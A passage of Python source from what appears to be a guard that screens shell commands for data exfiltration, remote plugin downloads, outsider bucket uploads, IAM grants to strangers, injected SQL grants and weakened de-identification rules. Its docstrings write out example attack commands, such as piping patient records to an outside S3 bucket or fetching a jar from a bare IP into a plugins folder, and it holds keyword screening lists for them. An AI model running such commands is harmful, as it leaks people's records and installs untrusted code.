        if target and not loopback(target) and target not in ("localhost", "0.0.0.0", "*") and "$" not in target:
            a.block("exfiltration", f"`ssh -R {f} {dest}` offers {target}:{port}, another machine of the network, "
                                    f"on {dest}, a host outside it: whoever reaches that host reaches the server; use "
                                    "the organisation's bastion", cmd.node)
            return


# -- a plugin or driver fetched from a bare address into a server's plugins folder -----------------------------------
# (Trino's plugins sit one folder down: `plugin/<name>/x.jar`)
_PLUGIN_DIR = re.compile(r"(?i)/(?:plugins?|drivers?|extensions|lib/ext)/(?:[^/]+/)?[^/]*\.(?:jar|so|dll|zip)$")


def _plugin(a, cmd: Cmd) -> None:
    from .files import written_file

    outs = [w.value for w in option_value(cmd.args, "-o", "--output", "-O", "--output-document") if w.value]
    outs.append(written_file(a, cmd.redirects) or "")  # `curl … > /opt/metabase/plugins/x.jar`
    outs += [d.rstrip("/") + "/x.jar" for d in (w.value for w in option_value(cmd.args, "--output-dir", "-P",
                                                                               "--directory-prefix")) if d]
    if not any(_PLUGIN_DIR.search(o) for o in outs if o):
        return
    for u in (v for v in cmd.values() if v and "://" in v):
        host = url_host(u)
        if host and public_ip(host):
            a.block("download-exec", f"`{cmd.name}` downloads {u}, code from a bare public address, into the server's "
                                   "plugins folder, where the server loads and runs it; install plugins from their "
                                   "publisher's release page", cmd.node)
            return


def _placed(cmd: Cmd) -> list[tuple[str, list]]:
    """(where, what is put there) for a copy, a move, a link, an archive unpacked (`unzip x.zip -d DIR`) or a copy
    into a container (`docker cp x.jar metabase:/plugins/`)."""
    from .files import copy_sources, write_targets

    if cmd.name in ("docker", "podman", "kubectl"):
        pos = positionals(cmd.args, stop_at_end=True)
        if len(pos) >= 3 and pos[0].value == "cp" and pos[2].value:
            return [(pos[2].value, [pos[1]])]
        return []
    return [(t.value, copy_sources(cmd, t)) for t in write_targets(cmd) if t.value]


def _plugin_moved(a, cmd: Cmd) -> None:
    """`curl -o /tmp/x.jar http://203.0.113.14/x.jar && mv /tmp/x.jar /opt/metabase/plugins/`: the download put into
    the plugins folder a step later, as `_plugin` judges it put there at once. The file is the one fetched when the
    folder a `cd` went to since makes it so (files.py records a download's name as seen from where it was made)."""
    strangers = a.downloaded.strangers
    if not strangers:
        return
    for at, sources in _placed(cmd):
        for src in sources:
            url = strangers.get(_key(a, src.value)) if src.value else None
            host = (url_host(url) if "//" in url else url) if url else None
            if not host or not public_ip(host):
                continue
            dest = at if _PLUGIN_DIR.search(at) else f"{at.rstrip('/')}/{(src.value or '').rsplit('/', 1)[-1]}"
            if _PLUGIN_DIR.search(dest):
                a.block("download-exec", f"`{cmd.name}` puts {src.value or src.text}, downloaded above from {host}, a "
                                         f"bare public address, into {at}, the server's plugins folder, where the "
                                         "server loads and runs it; install plugins from their publisher's release "
                                         "page", cmd.node)
                return


# -- records put in a bucket of someone else's -------------------------------------------------------------------------
# the copies into a cloud's storage: (the program's group, its verbs)
_UPLOADERS = {"aws": ("s3", ("cp", "mv", "sync")), "gsutil": (None, ("cp", "mv", "rsync")),
              "gcloud": ("storage", ("cp", "mv", "rsync")), "s5cmd": (None, ("cp", "mv", "sync")),
              "rclone": (None, ("copy", "copyto", "move", "moveto", "sync", "rcat")),
              "azcopy": (None, ("copy", "cp", "sync"))}
_BUCKET = re.compile(r"^(?:s3|gs)://([^/]+)")
_BLOB = re.compile(r"(?i)^https://([a-z0-9-]+)\.(?:blob|dfs)\.core\.windows\.net/([^/?]+)")
_REMOTE = re.compile(r"^[\w.-]+:/*([^/:]+)")  # (rclone's `remote:bucket/path`)


def _upload_place(cmd: Cmd) -> tuple[str, str] | None:
    """(what is uploaded, the bucket it goes to) of a copy into a cloud's storage: `aws s3 cp F s3://b/…`, `aws s3api
    put-object --bucket b --body F`, `gsutil cp`, `s5cmd cp`, `rclone copy F remote:b/…`, `azcopy copy F
    https://acct.blob.core.windows.net/c/…` (the account and the container)."""
    from .cloud import _AWS_ARG, _GCLOUD_ARG

    spec = _UPLOADERS.get(cmd.name)
    if spec is None:
        return None
    skip = _AWS_ARG if cmd.name == "aws" else _GCLOUD_ARG if cmd.name == "gcloud" else frozenset()
    pos = [w.value or "" for w in positionals(cmd.args, skip)]
    if cmd.name == "aws" and pos[:2] == ["s3api", "put-object"]:
        bucket = next((w.value for w in option_value(cmd.args, "--bucket") if w.value), None)
        body = next((w.value for w in option_value(cmd.args, "--body") if w.value), None)
        return (body, bucket.lower()) if bucket and body else None
    group, verbs = spec
    if group is not None:
        if pos[:1] != [group]:
            return None
        pos = pos[1:]
    at = next((i for i, v in enumerate(pos) if v in verbs), None)
    if at is None or at > 1:
        return None
    if pos[at] == "rcat":  # (`rclone rcat remote:b/f` stores what it reads)
        m = _REMOTE.match(pos[at + 1]) if len(pos) > at + 1 else None
        return ("-", m.group(1).lower()) if m else None
    for i in range(at + 2, len(pos)):
        v = pos[i]
        m = _BUCKET.match(v) or _BLOB.match(v) or (_REMOTE.match(v) if cmd.name == "rclone" else None)
        if m:
            return pos[i - 1], "/".join(g for g in m.groups() if g).lower()
    return None


def _bucket_upload(a, cmd: Cmd) -> None:
    """`curl …/r4/Patient?_count=500 | aws s3 cp - s3://xfer-drop-1/p.json`, or the file such a read filled (or a
    folder holding it) copied with `gsutil cp`, `aws s3 sync`, `rclone copy`: records read in bulk put on an
    outsider's S3-compatible server (`--endpoint-url` at a bare address or a drop-box service) are blocked; put in a
    bucket whose name carries none of the words of where they were read from (`psql -h db.acme.internal`,
    `https://fhir.acme.internal/…`: the organisation's, as far as one can tell), or on another service's S3-compatible
    storage (R2, Spaces, Wasabi), they are held for a person: a bucket's name is weak evidence of whose it is. A
    bucket carrying that name, a server of the organisation's own, or records read from where no name of the
    organisation's shows (a managed database's platform host, `snowsql -c prod`) stay allowed, as `bq extract` is
    judged."""
    from .datastores import _before_in_pipeline

    if cmd.name not in _UPLOADERS or not in_input(_FEED_BYTES, a.doc.data):
        return
    place = _upload_place(cmd)
    if place is None:
        return
    src, bucket = place
    if src == "-":
        stage = pipeline_stage(cmd)
        if stage is None or stage[1] == 0:
            return
        got = next((g for c in _before_in_pipeline(a, *stage) if (g := _bulk(c)) and g[0] != "link"), None)
    else:
        found = _kept_under(a, src)
        got = (found.kind, found.what, found.sources) if found and found.kind != "link" else None
    if got is None:
        return
    what, sources = got[1], got[2]
    endpoint = next((w.value for w in option_value(cmd.args, "--endpoint-url", "--endpoint") if w.value), None)
    if endpoint:
        host = url_host(endpoint) or ""
        if public_ip(host) or stranger_sink(host):
            a.block("exfiltration", f"{what} is put by `{cmd.name}` on {host}, an S3-compatible server at a bare "
                                    "address outside the organisation's network: a place of someone else's is the "
                                    "records handed over; keep them in the organisation's own storage and let the "
                                    "user decide where they go", cmd.node)
        elif wt.far_host(endpoint, input_text(a)):
            a.review("exfiltration", f"{what} is put by `{cmd.name}` on {host}, another service's S3-compatible "
                                     "storage: a person confirms the account is the organisation's", cmd.node)
        return
    words = wt.source_words(sources)
    if words and not wt.carries(bucket, words):
        named = ", ".join(sorted(words)[:3])
        a.review("exfiltration", f"{what} is put by `{cmd.name}` in the bucket {bucket}, whose name carries none of "
                                 f"the organisation's ({named}, of where they were read from): a person confirms the "
                                 "bucket is the organisation's", cmd.node)


def _kept_under(a, src: str) -> _Kept | None:
    """What the file `src` holds (_kept), or a file in the folder `src` (`aws s3 sync . s3://b/`)."""
    if not a.kept:
        return None
    key = _key(a, src.rstrip("/") or "/")
    got = _kept_file(a, src)
    if got is not None:
        return got
    here = key in (".", "")
    for k, got in list(a.kept.items())[:50]:
        if (here and not k.startswith(("/", "~")) or k.startswith(key + "/")) and _still_kept(a, k, got):
            return got
    return None


# -- a project's administration or its data given to a stranger -------------------------------------------------------
# a service's administrator role, or a role that reads or writes a store of data (BigQuery, Cloud Storage, Cloud SQL,
# Spanner, Bigtable, Firestore, the Healthcare API, Secret Manager's secrets); cloud.py judges the project's owner and
# editor roles and those that administer IAM itself. BigQuery's job user (`bigquery.jobUser`, `bigquery.user`) runs
# queries and reads no table it is not given.
_SERVICE_ROLE = re.compile(r"^roles/(?!bigquery\.(?:jobUser|user)$)(?:[\w]+\.\w*[aA]dmin|(?:bigquery|storage|cloudsql|"
                           r"spanner|bigtable|datastore|firestore|healthcare)\.\w+|secretmanager\.secretAccessor)$")
# a role of the organisation's or the project's own making: what it grants is not on the line
_CUSTOM_ROLE = re.compile(r"^(?:projects|organizations)/[^/]+/roles/[\w.]+$")
_GRANT_SCOPES = frozenset({"projects", "organizations", "resource-manager"})
# a store of data given to a member on its own (`gcloud healthcare fhir-stores …`, `gcloud storage buckets …`,
# `gcloud alpha bq datasets …`, `gcloud secrets …`): the group, and its kinds of resource (None: any)
_DATA_SCOPES = {"healthcare": None, "storage": ("buckets",), "bq": ("datasets", "tables"),
                "spanner": ("databases", "instances"), "bigtable": ("instances", "tables"), "secrets": ()}
# the words of a project's id that say it is someone's own (`my-side-project-123`, GCP's `my-first-project-…`): a
# free mail address given it may well be its owner's
_PERSONAL_PROJECT = frozenset({"my", "personal", "side", "hobby", "playground", "scratch", "learning", "tutorial",
                               "home", "sandbox", "trial"})


def _gcloud_grant(a, cmd: Cmd) -> None:
    """`gcloud projects add-iam-policy-binding acme-dw --member=user:x@gmail.com --role=roles/bigquery.admin`, `gcloud
    healthcare fhir-stores add-iam-policy-binding …`: a free mail address, a look-alike of a vendor's domain, or
    everyone, given the project's warehouse or one store of its data (as `bq add-iam-policy-binding` is judged for one
    dataset). A project whose id says it is someone's own (`my-side-project-123`), or a role of the project's own
    making, is held for a person instead. The organisation's own users, groups and service accounts, and a bucket
    opened to everyone (a website's objects, judged elsewhere), stay allowed."""
    from ..cloud_admin import ADMIN
    from .cloud import _GCLOUD_ARG

    pos = [w.value or "" for w in positionals(cmd.args, _GCLOUD_ARG, stop_at_end=True)[:7]]
    if pos[:1] in (["beta"], ["alpha"]):
        pos = pos[1:]
    if "add-iam-policy-binding" not in pos:
        return
    verb = pos.index("add-iam-policy-binding")
    scope, name = pos[:verb], (pos[verb + 1] if len(pos) > verb + 1 else "")
    project_wide = scope[:1] and scope[0] in _GRANT_SCOPES
    kinds = _DATA_SCOPES.get(scope[0]) if scope and scope[0] in _DATA_SCOPES else False
    if not project_wide and (kinds is False or kinds and (len(scope) < 2 or scope[1] not in kinds)):
        return
    roles = [r for w in option_value(cmd.args, "--role") if (r := w.value)]
    role = next((r for r in roles if _SERVICE_ROLE.match(r) and not ADMIN.search(r)), None)
    custom = role is None and (role := next((r for r in roles if _CUSTOM_ROLE.match(r)), None)) is not None
    if role is None:
        return
    project = name if project_wide and scope[0] == "projects" else \
        next((w.value for w in option_value(cmd.args, "--project") if w.value), name)
    shown = " ".join(scope)
    for w in option_value(cmd.args, "--member"):
        why = wt.stranger_member(w.value or "")
        if not why or why == "anyone on the internet" and scope[:1] == ["storage"]:
            continue
        said = f"`gcloud {shown} add-iam-policy-binding {name} --member={w.value} --role={role}` gives {why}"
        admin = role.lower().endswith("admin")
        what = (f"{'the administration of' if admin else 'access to'} every {role[6:].split('.')[0]} resource of the "
                "project" if project_wide and not custom else f"the role {role} on {name or 'it'}")
        personal = set(re.findall(r"[a-z]+", project.lower())) & _PERSONAL_PROJECT
        if custom or personal and why != "anyone on the internet":
            because = "a role of the project's own making, whose permissions the line does not show" if custom else \
                f"a project whose id ({project}) says it may be the user's own"
            a.review("privilege-escalation" if admin else "exfiltration",
                     f"{said} {what}, {because}; a person confirms the account may have it", cmd.node)
        else:
            a.block("privilege-escalation" if admin else "exfiltration",
                    f"{said} {what}: its data is theirs to read and copy; grant the organisation's own accounts",
                    cmd.node)
        return


# -- SQL written into a project's hooks, a de-identification rule turned off ---------------------------------------
_SQL_FILE = re.compile(r"(?i)(?:\.sql|dbt_project\.ya?ml|schema\.ya?ml|profiles\.ya?ml|/macros/[^/]*)$")


def _written_sql(a, cmd: Cmd) -> None:
    """`cat >> dbt_project.yml <<EOF … on-run-end: - "GRANT ROLE SYSADMIN TO USER x" EOF`: the grant runs with the
    project's (production's) credentials on its next run."""
    from .exec import stdin_text

    targets = [a.src(d) for r in cmd.redirects if r.type == "file_redirect"
               for d in r.children_by_field_name("destination")[:1]]
    targets += [w.value for w in cmd.args if w.value and cmd.name == "tee" and not w.value.startswith("-")]
    if not any(_SQL_FILE.search(t.strip("'\"")) for t in targets):
        return
    fed = stdin_text(a, cmd)
    if fed is None or not fed[0]:
        return
    found = wt.sql_finding(fed[0])
    if found is not None:
        (a.block if found[0] == "block" else a.review)(
            found[1], f"the SQL written into {targets[0]} runs with the project's credentials on its next run: "
                      f"{found[2]}", cmd.node)


_REMOVES = re.compile(r"(?i)\b(?:remove|redact|mask|blank|drop|delete|scrub|hash|anonymi[sz]e|suppress|replace)\b")
_KEEPS = re.compile(r"(?i)\b(?:keep|retain|pass(?:through)?|none|allow|include)\b")
_SED_ARG = frozenset({"-e", "--expression", "-f", "--file", "-l", "--line-length"})
# (a folder or file named for the de-identification; a privacy page, or a test's fixture, is not its rules)
_DEID_FILE = re.compile(r"(?i)de-?id|anonymi[sz]|redact|scrub|(?:^|[/_.-])(?:phi|pii|dicom)(?:[/_.-]|$)|"
                        r"safe[_-]?harbor|masking")
_FIXTURE = re.compile(r"(?i)(?:^|/)(?:tests?|fixtures|spec|__tests__|testdata)/")
_YQ_KEEP = re.compile(r"""(?i)=\s*["']?(?:keep|retain|pass(?:through)?|none|allow|include)\b""")


def _deid(a, cmd: Cmd) -> None:
    """`sed -i 's/PatientName: remove/PatientName: keep/' deid/recipe.yaml`: the de-identification rule that removed
    a person's identifiers changed to keep them, so every export made with it carries them."""
    in_place = any(re.match(r"-[a-zA-Z]*i|--in-place\b", w.value or "") for w in cmd.args)
    if cmd.name == "perl":
        in_place = any(re.match(r"-\w*i", w.value or "") for w in cmd.args)
    if not in_place:
        return
    scripts = [w.value for w in option_value(cmd.args, "-e", "--expression")]
    pos = [w.value for w in positionals(cmd.args, _SED_ARG)]
    if not scripts:
        scripts, pos = pos[:1], pos[1:]
    files = [p for p in pos if p and _DEID_FILE.search(p) and not _FIXTURE.search(p)]
    if not files:
        return
    if cmd.name == "yq":  # `yq -i '.rules.PatientName = "keep"' deid/recipe.yaml`
        substituted = [("remove", v) for v in scripts if v and _YQ_KEEP.search(v)]
    else:
        substituted = [body.split("\0", 1) for v in scripts if v for letter, body, _ in commands(v) if letter == "s"]
    for old, new in substituted:
        if _REMOVES.search(old) and _KEEPS.search(new) and not _REMOVES.search(new):
            a.block("exfiltration", f"`sed` changes the de-identification rules of {files[0]} from removing the "
                                 "identifiers to keeping them: every export made with them carries the people's names, "
                                 "birth dates and record numbers; change the rules only with the privacy officer's "
                                 "approval", cmd.node)
            return


HANDLERS: dict = {
    **{n: [_sent] for n in (*NET_SENDERS, "xargs")},
    **{n: [_sql] for n in (*_SQL_CLIENT_NAMES, "snow")},
    "bq": [_bq],
    "aws": [_aws],
    **{n: [_dicom] for n in ("storescu", "dcmsend", "storescu.exe", "dcmsend.exe", "movescu")},
    **{n: [_admin] for n in ("superset", "kubectl", "docker", "podman", "airflow")},
    "tabcmd": [_tabcmd],
}
for _n in ("curl", "wget", "http", "https", "xh"):
    HANDLERS[_n].append(_api)
HANDLERS["ssh"].append(_ssh_remote)
HANDLERS["curl"].append(_plugin)
HANDLERS["wget"].append(_plugin)
for _n in ("cat", "tee"):
    HANDLERS.setdefault(_n, []).append(_written_sql)
for _n in ("sed", "gsed", "perl", "yq"):
    HANDLERS.setdefault(_n, []).append(_deid)
HANDLERS.setdefault("autossh", []).append(_ssh_remote)
HANDLERS.setdefault("dbt", []).append(_dbt)
for _n in dict.fromkeys(("curl", "wget", "http", "https", "xh", "bq", *_SQL_CLIENT_NAMES, "tee")):
    HANDLERS.setdefault(_n, []).append(_kept)
for _n in _CARRIERS:
    HANDLERS.setdefault(_n, []).append(_carried)
for _n in ("mv", "cp", "install", "rsync", "ln", "unzip", "docker", "podman", "kubectl"):
    HANDLERS.setdefault(_n, []).append(_plugin_moved)
for _n in _UPLOADERS:
    HANDLERS.setdefault(_n, []).append(_bucket_upload)
HANDLERS.setdefault("gcloud", []).append(_gcloud_grant)

_REMOTE_FLAG = short_flag("R")
_FEEDS = mentions("select", "SELECT", "Select", "/Patient", "/Observation", "/Encounter", "$export", "/export",
                  "content=record", "credentials_api3", "public_link", "api_key", ".snowsql", ".snowflake", ".dbt",
                  ".databrickscfg")
_API = mentions("rowlevelsecurity", "/destinations", "/api/user", "/api/users", "$expunge", "/regulations")
_SQL_WORDS = mentions("share", "grant", "create user", "alter user", "masking", "row access", fold=True)
SCREENS: dict = {
    **{n: _FEEDS for n in NET_SENDERS},
    "xargs": lambda text: _FEEDS(text) and "://" in text,
    **{n: _SQL_WORDS for n in (*_SQL_CLIENT_NAMES, "snow")},
    "bq": mentions("add-iam-policy-binding", "extract", "query", "cp"),
    "aws": mentions("authorize-security-group-ingress", "public-read", "publicly-accessible"),
    **{n: (lambda text: True) for n in ("storescu", "dcmsend", "storescu.exe", "dcmsend.exe", "movescu")},
    **{n: mentions("create-admin", "users create") for n in ("superset", "kubectl", "docker", "podman", "airflow")},
    "tabcmd": mentions("delete"),
}
for _n in ("curl", "wget", "http", "https", "xh"):
    SCREENS[_n] = (lambda old: lambda text: old(text) or _API(text))(SCREENS[_n])
SCREENS["ssh"] = (lambda old: lambda text: old(text) or _REMOTE_FLAG.search(text) is not None or
                  "RemoteForward" in text)(SCREENS["ssh"])
for _n in ("curl", "wget"):
    SCREENS[_n] = (lambda old: lambda text: old(text) or ("plugin" in text or "driver" in text or "extensions" in text))(
        SCREENS[_n])
_WRITTEN_SQL = mentions("grant role", "to share", "createuser", "to role public", "to public", "add accounts",
                        fold=True)
SCREENS["cat"] = SCREENS["tee"] = lambda text: "<<" in text and _WRITTEN_SQL(text)
for _n in ("sed", "gsed", "perl", "yq"):
    SCREENS[_n] = lambda text: _DEID_FILE.search(text) is not None and _KEEPS.search(text) is not None
SCREENS["autossh"] = lambda text: _REMOTE_FLAG.search(text) is not None or "RemoteForward" in text
SCREENS["dbt"] = lambda text: "run-operation" in text and _SQL_WORDS(text)
# (_kept: a query whose rows are written into a file, for an upload of it later)
_SELECT = mentions("select", fold=True)
_OUTPUT = mentions(">", " -o", "output", fold=True)
for _n in (*_SQL_CLIENT_NAMES, "snow"):
    SCREENS[_n] = (lambda old: lambda text: old(text) or _SELECT(text) and _OUTPUT(text))(SCREENS[_n])
SCREENS["bq"] = (lambda old: lambda text: old(text) or ">" in text)(SCREENS["bq"])
# (_plugin_moved: a download put into a plugins folder)
_PLUGINS = mentions("plugin", "driver", "extensions", "lib/ext")
for _n in ("mv", "cp", "install", "rsync", "ln", "unzip", "docker", "podman", "kubectl"):
    SCREENS[_n] = (lambda old: lambda text: (old(text) if old else False) or _PLUGINS(text))(SCREENS.get(_n))
# (_kept, _carried, _bucket_upload: records read in bulk, written to a file or piped, carried or uploaded; the input
# names such a read)
for _n in (*_UPLOADERS, *_CARRIERS, "tee"):
    SCREENS[_n] = (lambda old: lambda text: (old(text) if old else False) or _FEEDS(text))(SCREENS.get(_n))
SCREENS["gcloud"] = mentions("add-iam-policy-binding")
